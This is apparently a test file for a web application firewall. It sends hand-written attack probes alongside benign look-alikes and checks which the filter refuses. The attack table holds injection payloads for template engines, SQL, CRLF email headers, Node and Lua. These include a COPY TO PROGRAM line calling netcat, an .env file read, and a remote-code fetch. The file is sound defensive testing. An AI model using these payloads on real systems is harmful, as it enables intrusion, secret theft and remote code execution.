"""WAF, part 2z11: held-out probes, thirty-fourth file (README: the
forty-second round), written for this file on 2026-12-06. No string is
taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

The classes the wiki, roblox, marketing and prompts corpora showed when
first replayed (at a9a1cae):
- wiki-template: a template engine's object reached (refused); a wiki's
  citation with named parameters (passes);
- parser-function: arithmetic of two literals (refused); a wiki's #expr
  parser function (passes);
- title-year: a sleep call as the whole value (refused); a title's
  year in parentheses (passes);
- select-title: a nested SELECT that sleeps (refused); an album's title
  (passes);
- literal-escape: a dunder hidden by hex escapes (refused); a filter
  given a line break's escape (passes);
- css-function-token: IE's expression() glued to its name (refused); a
  tool's "expression (string)" (passes);
- choice-quoted: a probe's name among quoted choices (refused); a type's
  quoted choices (passes);
- select-hyphen: a subquery after a breakout (refused); "(select-menu"
  in a sentence (passes);
- namespace-bare: Jinja's namespace reached through a dunder (refused);
  a wiki's magic words (pass);
- file-url-secret: a file: URL to an env file (refused); to a picture
  (passes);
- backslash-authority: an authority a backslash and "@" split (refused);
  a backslash in a URL's path (passes);
- copy-program: PostgreSQL's COPY to a program (refused); a sentence
  about copying a program (passes);
- option-runs: a renderer's --run-script (refused); --pre-release in a
  note (passes);
- blank-line-json: one token, a blank line and a JSON body, spelled for
  one more decoding (refused); a label's colon before the body (passes);
- label-subject: a token, a line break and a Subject and a Bcc (refused);
  a sentence a colon ends before a Subject line (passes);
- node-span: require of child_process as code (refused); a require
  named in a markdown span in a warning (passes);
- lua-remote: a chunk compiled from a fetched URL (refused); a sentence
  about loadstring (passes).
Measured on a9a1cae: 4 of those 17 attacks passed (the rest were
refused by other rules), 10 of the 17 look-alikes were refused.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "wiki-template": ["{{ config.items() }}"],
    "parser-function": ["{{7*'7'}}"],
    "title-year": ["sleep(7)"],
    "select-title": ["(select(0)from(select(sleep(3)))v)"],
    "literal-escape": ["{{ ()['\\x5f\\x5fclass\\x5f\\x5f'] }}"],
    "css-function-token": ["x:expression(alert(1))"],
    "choice-quoted": ["kind: 'a' | 'whoami' | 'b'"],
    "select-hyphen": ["x' and (select 1)='1"],
    "namespace-bare": ["{{ namespace.__init__ }}"],
    "file-url-secret": ["file:///srv/app/.env"],
    "backslash-authority": ["https://evil.example\\@trusted.example/"],
    "copy-program": ["1; COPY t TO PROGRAM 'nc 198.51.100.4 9'"],
    "option-runs": ["--run-script x.js https://x.example/"],
    "blank-line-json": ["v7%0d%0a%0d%0a{\"role\":\"admin\"}"],
    "label-subject": ["hello%0d%0aSubject: x%0d%0aBcc: a@attacker.example"],
    "node-span": ["require('child_process').exec('id')"],
    "lua-remote": ["loadstring(game:HttpGet(\"https://x.example/a\"))()"],
}

BENIGN = {
    "wiki-template": ["{{cite news |title=Config drift in 2020 |work=Ops Weekly}}"],
    "parser-function": ["{{#expr: 12 * 4 }}"],
    "title-year": ["Sleep (2011 short film)"],
    "select-title": ["Select (1977 album)"],
    "literal-escape": ["{{ rows | join('\\n') }}"],
    "css-function-token": ["Input: expression (string)"],
    "choice-quoted": ["mode: \"fast\" | \"safe\" | \"full\";"],
    "select-hyphen": ["pick from (select-menu: 'Q3 owners')"],
    "namespace-bare": ["{{NAMESPACE}} / {{PAGENAME}}"],
    "file-url-secret": ["file:///C:/Users/Ana/Pictures/yarn.jpg"],
    "backslash-authority": ["https://trusted.example/a\\b"],
    "copy-program": ["copy to program folder"],
    "option-runs": ["--pre-release notes are out"],
    "blank-line-json": ["Result:\n\n{\"ok\": true}"],
    "label-subject": ["Draft for the welcome email:\nSubject: Hi {{name}}"],
    "node-span": ["Avoid `require(userPath)` in handlers, it loads any file"],
    "lua-remote": ["loadstring is disabled by default in new places"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r34_attack_refused_everywhere,
 test_heldout_r34_benign_passes) = heldout_probe_tests(
    "r34", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
